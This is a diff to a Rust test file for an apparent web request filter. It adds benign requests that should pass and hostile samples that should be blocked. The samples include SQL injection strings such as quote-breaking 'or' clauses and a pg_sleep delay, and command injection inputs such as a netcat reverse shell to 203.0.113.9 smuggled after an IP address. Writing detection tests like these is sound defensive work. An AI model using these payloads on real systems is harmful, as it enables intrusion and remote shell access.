@@ -60,6 +60,10 @@ fn ordinary_requests_pass() {
         "/contact?email=jane.doe%2Btag%40example.com",
         "/search?q=%E6%9D%B1%E4%BA%AC%E9%83%BD",
         "/search?q=don%27t+stop+me+now",
+        "/users?sort=id&order=desc",
+        "/inventory?columns=hostname",
+        "/help?topic=pwd",
+        "/search?q=%22red+wine%22+OR+%22white+wine%22",
     ];
     for path in paths {
         let assessment = assess(&filter(), &request(path), "");
@@ -94,6 +98,16 @@ fn ordinary_bodies_pass() {
             "POST",
             "application/json",
             r#"{"text":"Ça va? Très bien, merci!"}"#,
+        ),
+        (
+            "POST",
+            "application/json",
+            r#"{"code":"if (a < b && c > d) { return x; }"}"#,
+        ),
+        (
+            "PUT",
+            "application/json",
+            r#"{"snippet":"if (!user || !user.id) return null;"}"#,
         ),
     ];
     for (method, content_type, body) in cases {
@@ -505,6 +519,10 @@ fn sql_injection_is_blocked() {
             "1 and (select 1 from pg_sleep(5))",
             "x' and current_user::int=1--",
             "; SET @old=@@sql_mode",
+            "admin' or 'x",
+            "x\" or \"y",
+            "x\" ' or true-- ",
+            "a' and 'b",
         ],
     );
 }
@@ -526,6 +544,9 @@ fn sql_lookalikes_pass() {
             "update my address",
             "don't delete from the list",
             "best of 2024 - top 10",
+            "\"red\" or \"blue\"",
+            "'large' and 'small' sizes",
+            "if (a < b && c > d) { return x; }",
         ],
     );
 }
@@ -593,6 +614,8 @@ fn unix_command_injection_is_blocked() {
             "127.0.0.1; nc -e /bin/sh 203.0.113.9 4444",
             "{,ifconfig}",
             "a=id;$a",
+            "whoami",
+            "id;",
         ],
     );
 }
